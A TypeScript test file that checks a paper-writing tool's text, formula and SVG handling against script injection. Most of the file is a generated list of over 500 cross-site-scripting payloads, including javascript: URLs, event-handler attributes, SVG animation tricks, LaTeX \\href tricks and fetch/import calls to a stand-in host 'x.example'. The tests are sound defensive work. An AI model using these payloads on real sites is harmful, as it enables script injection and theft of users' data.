import { isPaperText } from '@medha/test-rules/paper-text'
import { isFormula } from '@medha/test-rules/drawn-formula'
import { describe, expect, it } from 'vitest'
import { createTextWriter } from '../content/write-text.ts'
import { svgFaults } from './check-svg.ts'
import { formulaTree } from './formula-tree.ts'
import { readPaperText } from './paper-text.ts'

const CALLS = ['alert(1)', 'fetch("//x.example")', 'top.location=1', 'import("//x.example")', 'eval(name)']
const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT >${call}</SCRIPT>`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<img/src="x"/onerror="${call}">`,
  (call) => `<svg onload="${call}"></svg>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName="x"/></svg>`,
  (call) => `<svg><set attributeName="onmouseover" to="${call}"/></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><rect/></a></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,${call}"/></svg>`,
  (call) => `<svg><foreignObject><body onload="${call}"/></foreignObject></svg>`,
  (call) => `<svg><style>@import "//x.example/${call}";</style></svg>`,
  (call) => `<svg><image href="//x.example/${call}"/></svg>`,
  (call) => `<svg><rect style="fill:url(//x.example/${call})"/></svg>`,
  (call) => `<svg><rect fill="url(//x.example/${call})"/></svg>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<object data="data:text/html,${call}"></object>`,
  (call) => `<embed src="//x.example/${call}">`,
  (call) => `<link rel="stylesheet" href="//x.example/${call}">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<base href="//x.example/${call}/">`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<math><maction actiontype="statusline" xlink:href="javascript:${call}">x</maction></math>`,
  (call) => `<p onclick="${call}">x</p>`,
  (call) => `<p style="background:url(//x.example/${call})">x</p>`,
  (call) => `<b/onmouseover=${call}>x</b>`,
  (call) => `<!--><script>${call}</script>-->`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `<?xml-stylesheet href="javascript:${call}"?>`,
  (call) => `<!DOCTYPE x [<!ENTITY e "${call}">]><svg>&e;</svg>`,
  (call) => `\\href{javascript:${call}}{x}`,
  (call) => `\\url{javascript:${call}}`,
  (call) => `\\includegraphics{//x.example/${call}}`,
  (call) => `\\htmlData{x=${call}}{x}`,
  (call) => `\\htmlStyle{background:url(//x.example/${call})}{x}`,
  (call) => `\\htmlClass{x" onclick="${call}}{x}`,
  (call) => `\\text{</span><script>${call}</script>}`,
  (call) => `\\color{red;background:url(//x.example/${call})}x`,
  (call) => `\\def\\a{<script>${call}</script>}\\a`,
  (call) => `"><script>${call}</script>`,
  (call) => `'"--></style></script><script>${call}</script>`,
  (call) => `javascript:${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `\u0000<script>${call}</script>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
]
const VECTORS = SHAPES.flatMap((shape) =>
  CALLS.flatMap((call) => {
    const vector = shape(call)
    return [vector, vector.replaceAll('<', '<\n')]
  }),
)

/** The attribute and style values of a drawn formula that a browser would act on. */
const followed = (value: unknown): string[] => {
  if (!Array.isArray(value)) return []
  const [, , style, attributes, ...children] = value as unknown[]
  return [
    ...Object.values((style as object) || {}),
    ...Object.values((attributes as object) || {}),
    ...children.flatMap(followed),
  ].map(String)
}

describe(`[PLY-29] what somebody writes into a paper cannot run: ${VECTORS.length} vectors`, () => {
  it('as a text it is refused, or it is words and listed elements', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(500)
    let taken = 0
    for (const vector of VECTORS) {
      if (!readPaperText(vector).ok) continue
      const { en } = createTextWriter(['en', 'hi']).bothOf({ en: vector, hi: vector })
      taken += 1
      expect(isPaperText(en), vector).toBe(true)
      expect(
        en.every(({ kind }) => kind === 'text'),
        vector,
      ).toBe(true)
    }
    // Some are only words and appear on the page as plain text.
    expect(taken).toBeGreaterThan(0)
  })

  it('as a formula it is refused, or nothing of it is followed', () => {
    for (const vector of VECTORS) {
      const formula = formulaTree(vector, false)
      if (!formula.ok) continue
      const writer = createTextWriter(['en', 'hi'])
      writer.bothOf({ en: `\\(${vector}\\)`, hi: 'x' })
      for (const drawn of writer.formulas) {
        expect(isFormula(drawn), vector).toBe(true)
        expect(
          followed(drawn).filter((value) => /script|url|\/\/x/.test(value)),
          vector,
        ).toEqual([])
      }
    }
  })

  it('as a picture, alone and inside one, it is refused', () => {
    const isMarkUp = (vector: string) => /<|&/.test(vector)
    for (const vector of VECTORS.filter(isMarkUp)) {
      expect(svgFaults(vector, false), vector).not.toEqual([])
      const inside = `<svg xmlns="http://www.w3.org/2000/svg"><text>${vector}</text></svg>`
      expect(svgFaults(inside, false), vector).not.toEqual([])
    }
    expect(svgFaults('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>', false)).toEqual([])
  })
})
